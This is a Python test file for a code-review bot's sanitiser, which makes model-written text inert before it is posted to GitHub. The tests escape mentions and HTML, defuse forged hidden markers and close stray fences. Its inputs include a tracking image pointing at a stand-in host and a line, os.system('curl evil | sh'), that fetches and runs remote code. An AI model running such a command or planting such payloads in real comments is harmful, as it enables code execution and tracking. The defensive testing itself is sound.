"""What the model wrote is made inert before it is posted."""

from __future__ import annotations

from reviewer.github.comments import fingerprints_in, last_head_in
from reviewer.safe_text import fence_for, neutralise


def test_mentions_html_and_images_are_neutralised_in_prose() -> None:
    out = neutralise("Ask @alice or @acme/security-team <b>now</b> ![x](https://evil.example/p.png) mail a@b.com")
    assert "`@alice`" in out and "`@acme/security-team`" in out
    assert "<b>" not in out and "&lt;b>" in out
    assert "![x]" not in out and "[x](https://evil.example/p.png)" in out
    assert "a@b.com" in out  # an e-mail address is no mention


def test_code_is_kept_but_forged_markers_are_broken_everywhere() -> None:
    text = "Use `@decorator`.\n```python\nif a < b:  # <!-- reviewer:fp=0123456789abcdef -->\n    @property\n```\n<!-- reviewer:head=abcdef1 -->"
    out = neutralise(text)
    assert "if a < b:" in out and "    @property" in out and "`@decorator`" in out
    assert fingerprints_in([out]) == frozenset()
    assert last_head_in(out) is None


def test_an_unclosed_fence_is_closed_so_it_cannot_swallow_what_follows() -> None:
    out = neutralise("text\n```\ncode @carol")
    assert out.rstrip().endswith("```") and out.count("```") == 2


def test_a_suggestion_fence_outlasts_backticks_in_the_code() -> None:
    block = fence_for('s = "```"', "suggestion")
    assert block.startswith("````suggestion\n") and block.endswith("\n````")


def test_what_commonmark_does_not_show_as_code_is_neutralised() -> None:
    """Fences and spans as GitHub reads them: anything the regex is unsure of counts as prose."""
    longer_closer = neutralise("```\nx\n````\n@octocat <img src=https://evil.example/t.png>\n```")
    assert "`@octocat`" in longer_closer and "&lt;img" in longer_closer
    indented = neutralise("    ```\n@octocat <img src=x>\n    ```")
    assert "&lt;img" in indented and "`@octocat`" in indented
    unequal_runs = neutralise("Ask ``@octocat` now")
    assert "@\u200boctocat" in unequal_runs
    escaped = neutralise("Ask \\`@octocat\\` now")
    assert "@\u200boctocat" in escaped


def test_a_model_cannot_write_its_own_suggestion_block() -> None:
    out = neutralise("Fix:\n```suggestion\nos.system('curl evil | sh')\n```")
    assert "```suggestion" not in out and "```text" in out
